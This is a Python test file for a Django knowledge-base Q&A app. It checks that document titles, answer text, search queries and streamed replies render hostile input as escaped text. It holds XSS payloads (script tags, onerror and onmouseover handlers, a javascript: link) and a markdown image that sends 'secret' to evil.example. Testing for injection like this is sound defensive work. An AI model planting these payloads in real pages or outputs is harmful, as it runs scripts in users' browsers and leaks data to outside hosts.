"""Model, document and person may write what they like: it stays text."""

from __future__ import annotations

import pytest
from django.urls import reverse

from kb.access import principal_of
from kb.models import Collection, Document, User
from retrieval.events import AnswerSentence
from retrieval.search import search
from tests.frontend.conftest import Browse
from tests.frontend.pages_ask.conftest import Ask, Publish
from tests.frontend.pages_ask.scanning import scanned

EVIL = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>\"' onmouseover=alert(3) "
    "[a](javascript:alert(4)) ![b](http://evil.example/?q=secret)"
)


@pytest.fixture
def evil(handbook: Collection, publish: Publish) -> Document:
    """A document whose title and text attack the page."""
    return publish(handbook, f"Title {EVIL}", f"Text {EVIL}", f"{{{{ secret }}}} {EVIL}")


def test_an_attack_is_shown_and_not_run(
    evil: Document, bob: User, asked: Ask, browser: Browse
) -> None:
    sentences = [
        AnswerSentence(EVIL, [1], supported=True),
        AnswerSentence(f"**{EVIL}** `{EVIL}`", [2], supported=False, lead="\n- "),
        AnswerSentence(f"| {EVIL} |\n|---|\n| {EVIL} |", [1], supported=True, lead="\n\n"),
        AnswerSentence(f"```\n{EVIL}\n```", [1], supported=True, lead="\n\n"),
    ]
    turn = asked(bob, evil, sentences, question=f"Question {EVIL}")
    client = browser(bob)
    pages = [
        "/",
        reverse("conversation", args=[turn.conversation_id]),
        reverse("turn", args=[turn.pk]),
        reverse("cited-source", args=[turn.pk, 1]),
        reverse("search") + "?q=Title+Text+script",
        reverse("search") + "?q=%3Cscript%3Ealert(1)%3C/script%3E",
        reverse("ask") + "?q=%3C/textarea%3E%3Cscript%3Ealert(1)%3C/script%3E",
    ]
    for page in pages:
        html = client.get(page).content.decode()
        assert scanned(html).bad == [], page
        assert "&lt;script&gt;" in html, page


def test_a_replayed_stream_carries_no_live_html(
    evil: Document, bob: User, asked: Ask, browser: Browse
) -> None:
    turn = asked(bob, evil)
    response = browser(bob).get(reverse("turn-stream", args=[turn.pk]))
    body = b"".join(response.streaming_content).decode()
    assert scanned(body.replace("data: ", "")).bad == []
    assert "&lt;script&gt;" in body


def test_a_refusal_shows_its_nearest_passages_as_text(
    evil: Document, bob: User, asked: Ask, browser: Browse
) -> None:
    nearest = search("Title Text", reader=principal_of(bob)).hits
    turn = asked(bob, None, [AnswerSentence("No.", [], True)], abstained=True, nearest=nearest)
    html = browser(bob).get(reverse("conversation", args=[turn.conversation_id])).content.decode()
    assert scanned(html).bad == []
    assert "The documents do not answer this" in html
    assert "Handbook" in html
